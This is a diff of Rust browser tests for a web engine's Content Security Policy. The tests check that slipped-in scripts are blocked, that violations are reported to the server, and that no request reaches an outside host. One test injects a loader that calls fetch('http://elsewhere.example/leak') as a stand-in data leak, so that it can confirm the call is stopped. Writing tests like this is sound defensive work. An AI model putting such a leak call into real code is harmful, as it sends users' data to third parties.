@@ -5,6 +5,9 @@ use crate::support::build::Build;
 use crate::support::page::{Page, dist, engine_file};
 use crate::support::server::Server;
 
+/// What is tried below, the first of it twice.
+const DIRECTIVES: [&str; 5] = ["script-src-elem", "script-src-attr", "style-src-attr", "connect-src", "img-src"];
+
 #[tokio::test]
 async fn what_is_slipped_in_does_not_run() {
     let server = Server::start(dist()).await;
@@ -28,25 +31,35 @@ async fn what_is_slipped_in_does_not_run() {
     let answers = page.browser.run_async(script, vec![]).await;
     assert_eq!(answers, serde_json::json!(["did not run", false, "stopped"]));
     let violations = page.violations().await.join("\n");
-    for directive in ["script-src-elem", "script-src-attr", "style-src-attr", "connect-src", "img-src"] {
+    for directive in DIRECTIVES {
         assert!(violations.contains(directive), "no violation of {directive} among {violations}");
     }
     let elsewhere: Vec<_> = server.requests().into_iter().filter(|request| request.contains("elsewhere")).collect();
     assert!(elsewhere.is_empty(), "{elsewhere:?}");
+    let reports = reported(&server, 6).await;
+    for directive in DIRECTIVES {
+        assert!(reports.contains(directive), "no report of {directive} among {reports}");
+    }
 }
 
-/// The engine keeps to its policy in every test, which the server looks at in the end (`Server::drop`): that it would be told.
+/// Page and engine keep to their policies in every test, which the server looks at in the end (`Server::drop`): that it would be told.
+async fn reported(server: &Server, times: usize) -> String {
+    let mut reports = Vec::new();
+    eventually(DEADLINE, async || {
+        reports.extend(server.reports());
+        if reports.len() < times { Err(reports.clone()) } else { Ok(()) }
+    })
+    .await;
+    reports.join("\n")
+}
+
 #[tokio::test]
 async fn what_the_engine_tries_is_reported() {
     let build = Build::with_loader("fetch('http://elsewhere.example/leak').catch(() => {});");
     let server = Server::start(build.path()).await;
     let page = Page::open_explained(&server).await;
-    let reports = eventually(DEADLINE, async || {
-        let reports = server.reports();
-        if reports.is_empty() { Err("nothing is reported") } else { Ok(reports) }
-    })
-    .await;
-    assert!(reports[0].contains("connect-src") && reports[0].contains("elsewhere"), "{reports:?}");
+    let reports = reported(&server, 1).await;
+    assert!(reports.contains("connect-src") && reports.contains("elsewhere"), "{reports}");
     assert!(!server.requests().iter().any(|request| request.contains("elsewhere")), "nor is it sent");
     assert!(page.violations().await.is_empty(), "the page itself tried nothing");
 }
@@ -68,6 +81,7 @@ async fn a_worker_has_it_too() {
     let script = "const worker = new Worker(arguments[0], {type: 'module'});
         return await new Promise(done => worker.onmessage = event => done(event.data))";
     assert_eq!(page.browser.run_async(script, vec![probe.into()]).await, "stopped");
+    assert!(reported(&server, 1).await.contains("elsewhere"), "what the service worker sends says where to report to, here");
     assert_eq!(page.browser.run("return crossOriginIsolated", vec![]).await, true);
     let elsewhere: Vec<_> = server.requests().into_iter().filter(|request| request.contains("elsewhere")).collect();
     assert!(elsewhere.is_empty(), "{elsewhere:?}");
